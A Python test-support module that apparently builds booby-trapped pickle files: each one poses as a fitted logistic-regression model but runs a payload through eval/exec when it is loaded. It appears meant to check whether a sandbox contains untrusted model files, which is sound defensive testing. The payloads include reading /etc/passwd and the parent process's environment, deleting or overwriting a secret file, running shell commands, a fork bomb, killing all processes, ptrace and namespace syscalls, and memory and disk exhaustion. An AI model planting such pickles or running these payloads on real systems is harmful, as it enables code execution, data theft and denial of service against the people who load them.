"""Pickles that do harm when they are opened, each in its own way: code that nothing judged.

Every one leaves a mark in a folder beside if it gets through, or says so, or hangs, or eats the
machine.
"""

import os
import pickle

import numpy as np
from sklearn.linear_model import LogisticRegression

HEAD = (
    "import os, sys, socket, subprocess, threading, signal, time, ctypes, mmap, shutil, tempfile\n"
    "mark = {mark!r}; secret = {secret!r}; port = {port}; parent = {parent}\n"
    "shared = {shared}\n"
    "def note(text=''):\n"
    "    try:\n        open(mark + '/mark', 'a').write(str(text))\n"
    "    except OSError:\n        raise RuntimeError('GOT THROUGH ' + str(text))\n"
)

WRITES = {
    "write": "open(mark + '/mark', 'w').write('x')",
    "write by descriptor": "os.write(os.open(mark + '/mark', os.O_CREAT | os.O_WRONLY), b'x')",
    "make a folder": "os.mkdir(mark + '/mark')",
    "symbolic link": "os.symlink('/etc/passwd', mark + '/mark')",
    "hard link": "os.link(secret, mark + '/mark')",
    "named pipe": "os.mkfifo(mark + '/mark')",
    "copy": "shutil.copy(secret, mark + '/mark')",
    "move": "shutil.move(secret, mark + '/mark')",
    "remove": "os.remove(secret)",
    "write over": "open(secret, 'w').write('x')",
    "cut off": "os.truncate(secret, 0)",
    "make public": "os.chmod(secret, 0o777)",
    "touch": "os.utime(secret)",
    "mark by attribute": "os.setxattr(secret, 'user.mark', b'x')",
    "by a thread": "t = threading.Thread(target=note); t.start(); t.join()",
    "by the C library": "ctypes.CDLL(None).creat((mark + '/mark').encode(), 0o644)",
    "by a temporary name": "tempfile.mkstemp(dir=mark)",
    "to shared memory": "open('/dev/shm/xplain-mark', 'w').write('x')",
    "through a link in its folder": (
        "os.symlink(mark, tempfile.gettempdir() + '/out')\n"
        "open(tempfile.gettempdir() + '/out/mark', 'w').write('x')"
    ),
    "to a file of memory": (
        "n = ctypes.CDLL(None).memfd_create(b'x', 0)\nif n >= 0: os.write(n, b'x'); note()"
    ),
    "to memory that others share": (
        "c = ctypes.CDLL(None); c.shmat.restype = ctypes.c_void_p\n"
        "p = c.shmat(shared, None, 0)\n"
        "if p != 2**64 - 1: ctypes.memset(p, 120, 8)"
    ),
    "end memory that others share": "ctypes.CDLL(None).shmctl(shared, 0, None)",
    "from its folder out": "os.rename(tempfile.mkstemp()[1], mark + '/mark')",
}
READS = {
    "read a secret": "note(open(secret).read()) if open(secret).read() else None",
    "map a secret": "note(mmap.mmap(os.open(secret, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:6])",
    "list a folder": "note(os.listdir(os.path.dirname(secret)))",
    "read accounts": "note(open('/etc/passwd').read())",
    "environment of the parent": "note(open(f'/proc/{os.getppid()}/environ', 'rb').read())",
    "memory of the template": "note(open(f'/proc/{os.getppid()}/mem', 'rb').read(1))",
    "by a handle": (
        "b = ctypes.create_string_buffer(b'\\x80\\0\\0\\0' + bytes(136)); i = ctypes.c_int()\n"
        "c = ctypes.CDLL(None)\n"
        "c.name_to_handle_at(-100, secret.encode(), b, ctypes.byref(i), 0) == 0 and note()"
    ),
    "watch a folder": (
        "c = ctypes.CDLL(None); n = c.inotify_init1(0)\n"
        "if n >= 0 and c.inotify_add_watch(n, mark.encode(), 0xfff) >= 0: note()"
    ),
    "memory of the parent": "note(open(f'/proc/{parent}/mem', 'rb').read(1))",
}
REACHES = {
    "run a program": "subprocess.run(['touch', mark + '/mark'])",
    "run a shell": "os.system('touch ' + mark + '/mark')",
    "become a program": "os.execv('/bin/touch', ['touch', mark + '/mark'])",
    "spawn": "os.posix_spawn('/usr/bin/touch', ['touch', mark + '/mark'], {{}})",
    "run Python": "subprocess.run([sys.executable, '-c', f'open({{mark!r}} + \"/mark\", \"w\")'])",
    "fork": "os.fork() or note()",
    "fork bomb": "[os.fork() for _ in range(10000)]",
    "connect": "socket.create_connection(('127.0.0.1', port), 2).sendall(b'mark')",
    "send a packet": "socket.socket(2, 2).sendto(b'mark', ('127.0.0.1', port))",
    "connect by the C library": "ctypes.CDLL(None).socket(2, 1, 0) >= 0 and note()",
    "signal the tool": "os.kill(parent, signal.SIGTERM)",
    "signal the template": "os.kill(os.getppid(), signal.SIGKILL)",
    "signal all": "os.kill(-1, signal.SIGKILL)",
    "trace the tool": "ctypes.CDLL(None).ptrace(16, parent, 0, 0) == 0 and note()",
    "limit the tool": "__import__('resource').prlimit(parent, 7, (0, 0)) and note()",
    "become a file of memory": (
        "n = ctypes.CDLL(None).memfd_create(b'x', 0)\n"
        "os.write(n, open('/bin/touch', 'rb').read())\n"
        "os.execve(n, ['touch', mark + '/mark'], {})"
    ),
    "ask the kernel in rings": (
        "b = ctypes.create_string_buffer(120)\nctypes.CDLL(None).syscall(425, 8, b) >= 0 and note()"
    ),
    "handle faults of memory": "ctypes.CDLL(None).syscall(323, 0) >= 0 and note()",
    "keep a key": "ctypes.CDLL(None).syscall(248, b'user', b'x', b'x', 1, -3) >= 0 and note()",
    "load a program of the kernel": (
        "ctypes.CDLL(None).syscall(321, 0, ctypes.create_string_buffer(128), 128) >= 0 and note()"
    ),
    "measure the tool": (
        "b = ctypes.create_string_buffer(b'\\1\\0\\0\\0\\x80\\0\\0\\0', 128)\n"
        "ctypes.CDLL(None).syscall(298, b, parent, -1, -1, 0) >= 0 and note()"
    ),
    "mount": "ctypes.CDLL(None).mount(b'x', mark.encode(), b'tmpfs', 0, None) == 0 and note()",
    "enter a namespace": (
        "n = os.open(f'/proc/{parent}/ns/net', 0)\nctypes.CDLL(None).setns(n, 0) == 0 and note()"
    ),
    "write into the tool": (
        "c = ctypes.CDLL(None); b = ctypes.create_string_buffer(16)\n"
        "ctypes.set_errno(0); c.process_vm_writev(parent, b, 0, b, 0, 0) == 0 and note()"
    ),
    "take a descriptor of the tool": (
        "c = ctypes.CDLL(None); n = c.syscall(434, parent, 0)\n"
        "if n >= 0: note(c.syscall(438, n, 1, 0))"
    ),
    "connect by an abstract name": (
        "s = socket.socket(socket.AF_UNIX); s.connect(f'\\0xplain-test-{port}'); s.send(b'mark')"
    ),
    "signal its group": "os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)",
    "let the kernel signal": (
        "import fcntl\n"
        "a, b = os.pipe(); fcntl.fcntl(a, 8, parent); fcntl.fcntl(a, 10, 15)\n"
        "fcntl.fcntl(a, 4, 0o20000 | os.O_NONBLOCK); os.write(b, b'x'); time.sleep(.2); note()"
    ),
    "slow the tool": "os.setpriority(os.PRIO_PROCESS, parent, 19); note()",
    "bind the tool to a processor": "os.sched_setaffinity(parent, [0]); note()",
    "outlive the template": "ctypes.CDLL(None).prctl(1, 0, 0, 0, 0) == 0 and note()",
    "be root": (
        "c = ctypes.CDLL(None)\n"
        "bits = int([l for l in open('/proc/self/status') if l.startswith('CapPrm')][0][7:], 16)\n"
        "if bits & ~6: note(bits)"
    ),
    "own a namespace": "ctypes.CDLL(None).unshare(0x10000000) == 0 and note()",
}
ENDS = {
    "exit": "sys.exit(0)",
    "exit at once": "os._exit(0)",
    "abort": "os.abort()",
    "crash": "ctypes.string_at(0)",
    "kill itself": "os.kill(os.getpid(), signal.SIGKILL)",
    "fill memory": "x = [bytearray(1 << 28) for _ in range(10000)]",
    "fill memory by mapping": "x = mmap.mmap(-1, 1 << 44)",
    "hang": "time.sleep(1000)",
    "hang and hold": "while True: pass",
    "say what is no answer": "[os.write(n, b'x' * 100) for n in range(3, 64) if _is_open(n)]",
    "say more and more": (
        "n = [n for n in range(3, 64) if _is_open(n)]\n"
        "while True: [os.write(one, b'\\x7f\\xff\\xff\\xff' + bytes(1 << 20)) for one in n]"
    ),
    "say that it is large": (
        "import struct; h = struct.pack('!iQ', -1, 1 << 60)\n"
        "[os.write(n, h) for n in range(3, 64) if _is_open(n)]; time.sleep(60)"
    ),
    "stop itself": "os.kill(os.getpid(), signal.SIGSTOP)",
    "end the pipe": "os.closerange(3, 64)",
    "interrupt": "raise KeyboardInterrupt",
}
FILLS = {
    "fill the folder": (
        "for i in range(64):\n"
        "    open(tempfile.gettempdir() + f'/{{i}}', 'wb').write(bytes(1 << 25)); time.sleep(.05)"
    ),
    "one large file": (
        "f = open(tempfile.gettempdir() + '/large', 'wb')\n"
        "while True: f.write(bytes(1 << 24)); f.flush(); time.sleep(.05)"
    ),
}
LEAVES = {
    "remove its own folder": "shutil.rmtree(tempfile.gettempdir()); time.sleep(.5)",
    "a folder nobody may enter": "os.makedirs(tempfile.gettempdir() + '/a', 0)",
}
PAYLOADS = {**WRITES, **READS, **REACHES, **ENDS, **FILLS, **LEAVES}
"""What each does, as code; ``mark``, ``secret``, ``port`` and ``parent`` are known to it."""

_IS_OPEN = (
    "def _is_open(n):\n"
    "    try:\n        os.fstat(n)\n    except OSError:\n        return False\n    return True\n"
)


class Harmful:
    """Runs a text when it is unpickled, and is a fitted model then, if it still can."""

    def __init__(self, code, model):
        self.code, self.model = code, model

    def __reduce__(self):
        return eval, (  # noqa: S307 - it is what such files do
            "[exec(code, {}), model][1]",
            {"code": self.code, "model": self.model},
        )


def harmful_pickle(path, name, *, mark, secret, port, shared=0):
    """Write a pickle that does what the payload of that name does; return its path."""
    stream = np.random.default_rng(0)
    X = stream.normal(size=(40, 3))
    model = LogisticRegression().fit(X, X[:, 0] > 0)
    values = {"mark": str(mark), "secret": str(secret), "port": port, "parent": os.getpid()}
    values["shared"] = shared
    code = HEAD.format(**values) + _IS_OPEN + PAYLOADS[name].replace("{{", "{").replace("}}", "}")
    path.write_bytes(pickle.dumps(Harmful(code, model)))
    return path
